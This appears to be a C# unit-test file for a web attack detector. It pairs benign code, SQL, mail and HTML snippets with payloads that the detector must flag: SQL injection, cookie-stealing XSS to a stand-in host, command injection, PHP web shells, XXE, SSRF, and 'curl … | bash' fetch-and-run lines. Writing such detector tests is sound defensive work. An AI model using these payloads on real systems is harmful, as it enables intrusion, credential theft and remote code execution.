using Vedette.Engine.Signatures;
using static Vedette.Engine.Tests.Signatures.InspectorFixture;

namespace Vedette.Engine.Tests.Signatures;

/// <summary>Programs, quotations, tables and mails that people paste, beside the attacks that look most like them.</summary>
public class HonestTextTests
{
    [Theory]
    [InlineData("document.getElementById('save').addEventListener('click', (e) => { e.preventDefault(); update(19); });")]
    [InlineData("if (typeof window !== 'undefined' && window.location.hash) { router.push(window.location.pathname); }")]
    [InlineData("$stmt = $pdo->prepare('SELECT * FROM items WHERE id = :id');\n$stmt->execute(['id' => $id]);")]
    [InlineData("if (ptr != NULL && ptr->next == head) { free(ptr); ptr = NULL; }")]
    [InlineData("<?php\nnamespace App\\Models;\n\nclass Account extends Model\n{\n    protected $fillable = ['name', 'coffee'];\n}")]
    [InlineData("const rows = items.filter(x => x.total > 3 && x.name !== '');\nreturn rows.length;")]
    [InlineData("public static void main(String[] args) throws Exception { new Service().run(args[0]); }")]
    [InlineData("def load(path):\n    with open(path) as f:\n        return [line.split(',') for line in f]")]
    public void Programs(string value) => AssertPasses(value);

    [Theory]
    [InlineData("My query: SELECT a.id, b.name FROM orders a JOIN users b ON a.id = b.a_id WHERE b.name LIKE '%kitchen%' ORDER BY 1 -- returns nothing")]
    [InlineData("What's the difference between UNION and UNION ALL? SELECT 1 UNION SELECT 1 gives one row.")]
    [InlineData("Explain this query: SELECT * FROM orders WHERE id = 1 OR 1=1")]
    [InlineData("order by 5 -- by price, or by name?")]
    [InlineData("name~\"^select\" && (total >= 6094 || vip == true)")]
    public void StatementsInSentencesAndFilters(string value) => AssertPasses(value);

    [Theory]
    [InlineData("| host | shell |\n|---|---:|\n| sleep | 7065 |")]
    [InlineData("<https://shop.example/search/8172|eval> deployed: *done*")]
    [InlineData("Subject: coffee (#13)\nFrom: \"Jim\" <jim@shop.example>\nTo: admin@shop.example\nCc: group@shop.example\n\nThanks")]
    [InlineData("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"/>")]
    [InlineData(".items[] | select(.total > 3) | {id, name}")]
    public void TablesLinksMailsAndDocumentTypes(string value) => AssertPasses(value);

    [Theory]
    [InlineData("Subject: notes\nFrom: a@b.example\nTo: c@d.example\nBcc: e@f.example\n\nHello", false)]
    [InlineData("> From: Anna <a@b.example>\n> To: c@d.example\n> Cc: e@f.example\n>\n> Hello", false)]
    [InlineData("-----Original Message-----\nFrom: a@b.example\nTo: c@d.example", false)]
    [InlineData("Hello\nBcc: e@f.example", true)]
    [InlineData("a@b.example\r\nCc: e@f.example", true)]
    public void AForwardedMailMayHoldHeaders(string value, bool expected) => Assert.Equal(expected, Request(body: "text=" + Uri.EscapeDataString(value)).IsAttack);

    [Theory]
    [InlineData(".garden {\n  color: #333;\n  font-weight: bold;\n}")]
    [InlineData("commit 18517a55\nAuthor: Anna Lee <anna@b.example>\nDate:   Tue May 25 14:52:50 2010 -0300")]
    [InlineData("version: 3\ndate: today\nchanges:")]
    [InlineData("property: blue\n\nlocation:\n  name: garden")]
    public void LinesOfDocumentsAreNoHeaders(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<p>Moved to <a href=\"../../../garden/blue.html\">../../../garden/blue.html</a></p>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=../../../core/fn.html\">")]
    [InlineData("<p>Use &lt;script&gt; tags sparingly; put them at the end.</p>")]
    [InlineData("<button onClick={() => setCount(count + 1)}>{count}</button>")]
    [InlineData("<input value={title} onChange={this.props.onChange} onBlur={validate} />")]
    [InlineData("a { background: url('data:image/svg+xml,<svg width=\"4\" height=\"4\"></svg>') }")]
    [InlineData("\"<b>bold</b>\",plain,\"a & b\"")]
    [InlineData("[`feceb77d7e`](https://host.example/commit/feceb77d7e) Read the docs")]
    public void PartsOfPages(string value) => AssertPasses(value);

    [Theory]
    [InlineData("Just pipe it: cat access.log | grep 404 | sort | uniq -c | head")]
    [InlineData("if [ -z \"$1\" ]; then\n  echo \"usage: $0 file\" >&2\n  exit 1\nfi")]
    [InlineData("set -e\nREV=$(git rev-parse --short HEAD)\necho \"building $REV\"\nmake all")]
    [InlineData("ALTER TABLE a ADD COLUMN b int;\nUPDATE a SET b = 4;\nALTER TABLE a ALTER COLUMN b SET NOT NULL;")]
    [InlineData("DROP FUNCTION f(int);\nCREATE FUNCTION f(a int) RETURNS int")]
    [InlineData("```bash\nnpm start\n```")]
    public void Scripts(string value) => AssertPasses(value);

    [Theory]
    [InlineData("{{ config.site_title }} - {{ page.title }}")]
    [InlineData("query List($where: garden_filter!, $limit: Int) { list(where: $where, limit: $limit) { id } }")]
    [InlineData("<xi:include href=\"chapter1.xml\"/>")]
    [InlineData("<!DOCTYPE target SYSTEM \"target.dtd\"><target/>")]
    [InlineData("We saw requests for ../../etc/passwd in our logs, what does that mean?")]
    [InlineData("/// See notes on operators. /// more")]
    public void TemplatesQueriesAndDocuments(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<?php foreach ($rows as $row) { echo \"<td>$row</td>\"; } ?>")]
    [InlineData("<?= $order->total ?> is empty but <?= $order->id ?> is not")]
    [InlineData("<?php the_post(); ?> shows the wrong page")]
    public void PagesOfPhpRunNothingTheyAreHanded(string value) => AssertPasses(value);

    [Theory]
    [InlineData("SELECT 4; DROP TABLE tmp_colors;")]
    [InlineData("CREATE TABLE t (id int); INSERT INTO t VALUES (4); SELECT count(*) FROM t;")]
    [InlineData("Why does SELECT * FROM rooms WHERE floor = 1 OR floor = 2 use no index?")]
    [InlineData("nap; sleep(9h), back at six")]
    [InlineData("Gasversorgungsunternehmen")]
    [InlineData("Ganchillo 72, 1-A")]
    public void WholeStatementsWerePutIntoNoOther(string value) => AssertPasses(value);

    [Theory]
    [InlineData("30 4 * * 0 borg create /mnt/b::{now} /srv | logger")]
    [InlineData("for f in *.flac; do opusenc \"$f\" out; done")]
    [InlineData("cut -d, -f2 rooms.csv | sort | uniq -c")]
    [InlineData("run `make docs; make check` before you push")]
    [InlineData("{{ $value | printf \"%.1f\" }} degrees in {{ $labels.room }}")]
    public void LinesThatBeginWithTheirOwnProgram(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<button class=\"b\" onclick=\"pickColor('red', 4)\">red</button>")]
    [InlineData("<a href=\"#\" onclick=\"return confirm('Remove this room?')\">x</a>")]
    [InlineData("<input onfocus=\"this.value=''\" value=\"Room\">")]
    [InlineData("<script type=\"application/ld+json\">{\"@type\":\"Hotel\",\"name\":\"Blue\"}</script>")]
    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9'/></svg>")]
    [InlineData("<script src=\"/assets/room.js\" defer></script>")]
    [InlineData("<script>var rooms = rooms || []; rooms.push(['visit', 4]);</script>")]
    public void HandlersAndDataOfThePageItself(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<button onclick=\"fetch('//q.example/'+document.cookie)\">red</button>")]
    [InlineData("<a onclick=\"return confirm(1)\">x</a>")]
    [InlineData("<img src=q onerror=\"this.src='//q.example/?'+document.cookie\">")]
    [InlineData("<a onclick=\"location.href='//q.example'\">x</a>")]
    [InlineData("<script type=\"application/ld+json\">{}</script><script>alert(4)</script>")]
    [InlineData("<script>top['al'+'ert'](4)</script>")]
    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(4)</script></svg>")]
    [InlineData("<script src=\"//q.example/room.js\"></script>")]
    [InlineData("<script src=\"/assets/room.js\">alert(4)</script>")]
    public void HandlersAndDataThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("{\"height\":{\"$gte\":4,\"$ne\":9}}", false)]
    [InlineData("{\"password\":{\"$not\":{\"$eq\":\"q\"}}}", true)]
    [InlineData("{\"@type\":\"javax.swing.JEditorPane\",\"page\":\"http://q.example\"}", true)]
    [InlineData("{\"@type\":\"Hotel\",\"name\":\"Blue\"}", false)]
    [InlineData("--- !ruby/object:Gem::Requirement\nrequirements: q", true)]
    [InlineData("gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", true)]
    [InlineData("--q\n<script>alert(4)</script>", true)]
    [InlineData("<!DOCTYPE d [<!ENTITY nbsp \"&#160;\">]><d>4&nbsp;m</d>", false)]
    [InlineData("<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><d>&b;</d>", true)]
    public void Bodies(string body, bool expected) => Assert.Equal(expected, Request(body: body).IsAttack);

    [Fact]
    public void AVerbOfAProtocolIsNoCommand()
    {
        Assert.False(Request(body: "{\"cmd\":\"ping\",\"seq\":2932}").IsAttack);
        Assert.True(Request(body: "{\"cmd\":\"ping -c 3 198.51.100.7; cat /etc/passwd\"}").IsAttack);
    }

    [Theory]
    [InlineData("my friend' union select 1,2 from users -- -")]
    [InlineData("x 'or 'a'='a")]
    [InlineData("x' or ' '=' ")]
    [InlineData("1 union values(1,2,3)")]
    [InlineData("id;select pg_sleep(5)")]
    [InlineData(" ORDER BY 15-- ")]
    [InlineData("1 order by 7#")]
    [InlineData("[$ne]=1")]
    [InlineData("'-print()-'")]
    [InlineData("\" onclick=print()//")]
    [InlineData("127.0.0.1; nslookup x.callback.example")]
    [InlineData("a.txt;/usr/bin/id")]
    [InlineData("garden\nwhoami")]
    [InlineData("O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}")]
    [InlineData("a@b.example\nBcc: victim@b.example")]
    [InlineData("<!DOCTYPE a PUBLIC \"-//W3C//A\" \"http://x.example/a.dtd\"><a/>")]
    [InlineData("']|//password|//a['")]
    [InlineData("<p>a</p><iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
    [InlineData("<p>a</p><iframe SrcDoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
    [InlineData("<img src=x onerror={alert(1)}>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">")]
    [InlineData("<a href=\"../../../../etc/passwd\">")]
    [InlineData("{{config.items()}}")]
    [InlineData("{{config.SECRET_KEY}}")]
    [InlineData("blue\r\nSet-Cookie: a=b")]
    [InlineData("blue\r\nX-Injected: yes")]
    [InlineData("1; DROP TABLE users")]
    [InlineData("1;\nDROP TABLE users")]
    [InlineData("<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>")]
    [InlineData("<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>")]
    [InlineData("../.env")]
    [InlineData("| net user")]
    [InlineData("; type %WINDIR%\\system32\\drivers\\etc\\hosts")]
    [InlineData("'||this.user=='admin")]
    [InlineData("')] | //password\0")]
    [InlineData("<%eval request(\"pass\")%>")]
    [InlineData("<?php system($_GET['q']); ?>")]
    [InlineData("<?= `id` ?>")]
    [InlineData("<?php print(4); ?>")]
    [InlineData("<?php include($_GET['page']); ?>")]
    [InlineData("';phpinfo();//")]
    [InlineData("4 AND 8-3=5")]
    [InlineData("4;SELECT sleep(9)")]
    [InlineData("report.pdf\"; touch /tmp/q; \"")]
    [InlineData("abc`sleep 9`")]
    [InlineData(";ifconfig eth3")]
    [InlineData("red\"&whoami&\"")]
    [InlineData("[k for k in ().__class__.__base__.__subclasses__()]")]
    [InlineData("q@b.example\r\nRCPT TO:<v@b.example>")]
    public void AttacksBesideThem(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("next=//attacker.example")]
    [InlineData("redirect=%5C%5Cattacker.example")]
    [InlineData("redirect_uri=https://good.example@attacker.example/")]
    [InlineData("url=http://0/admin")]
    [InlineData("url=http://127.0.0.1:6379/")]
    [InlineData("url=http://[::ffff:127.0.0.1]/")]
    [InlineData("__proto__[isAdmin]=1")]
    [InlineData("constructor[prototype][role]=admin")]
    public void Parameters(string query)
    {
        Assert.True(Query(query).IsAttack, query);
        Assert.True(Request(body: query).IsAttack, query);
    }

    [Theory]
    [InlineData(";curl -s http://203.0.113.5/x|bash")]
    [InlineData("&& cat /etc/passwd")]
    [InlineData(" ;busybox wget http://203.0.113.5/x")]
    public void AgentsThatBeginWithASeparator(string agent) => Assert.True(Request(agent: agent).IsAttack, agent);

    [Fact]
    public void WhatIsAllButCertainIsStillRanked()
    {
        float few = Value("1' or 1=1-- -").Score;
        float many = Value("1' or 1=1 union select null,version(),user() from information_schema.tables;drop table users-- -").Score;
        Assert.True(many > few);
        Assert.True(many < 1);
        Assert.Equal(0.5f, PayloadModel.Probability(0));
        Assert.True(PayloadModel.Probability(20) > PayloadModel.Probability(19.9f));
    }

    [Fact]
    public void NamesOfCookiesAndKeysAreReadToo()
    {
        Assert.True(Request(cookies: "shoes' or 1=1-- -").IsAttack);
        Assert.True(Request(body: "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}").IsAttack);
    }

    [Fact]
    public void OddityRanksWhatNoRuleKnowsAndDecidesNothing()
    {
        var plain = Value("blue garden");
        var odd = Value("~[b]^{c}<>");
        Assert.True(odd.Oddity > plain.Oddity);
        Assert.InRange(odd.Oddity, 0, 0.05f);
        Assert.Equal(0, Request("/about").Oddity);
    }

    [Fact]
    public void FragmentsOfAttacksInAnyOrderNeverThrow()
    {
        string[] pieces = ["' or ", "1=1", "--", "<script", ">", "alert(", ")", "`", "$(", "${", "jndi:", "{{", "}}", "../", "%2e", ";", "|", "cat ", "/etc/passwd", "union ", "select ", "\n", "\r\n", "Bcc: a@b", "http://", "@", "[::1]",
            "<!DOCTYPE ", "<!ENTITY ", "\"", "\\", "\\u003c", "&#x3c;", "{\"$ne\":", ")(uid=*", "(", "/*", "*/", "é", "\0", "\ud83d", "=", "|-|-\n", "O:1:\"", "function(", "=> {", "a"];
        var random = new Vedette.ML.SeededRandom(5);
        for (int round = 0; round < 4000; round++)
        {
            var text = new System.Text.StringBuilder();
            for (int i = random.Next(12); i >= 0; i--) text.Append(pieces[random.Next(pieces.Length)]);
            string value = text.ToString();
            Assert.InRange(Request("/" + value, value, value, value, value, value, value).Score, 0, 1);
        }
    }

    private static void AssertPasses(string value)
    {
        Assert.False(Value(value).IsAttack, $"as a parameter: {Value(value).Score} {Value(value).Classes}");
        Assert.False(Request(body: System.Text.Json.JsonSerializer.Serialize(new { text = value })).IsAttack, "in JSON");
    }
}
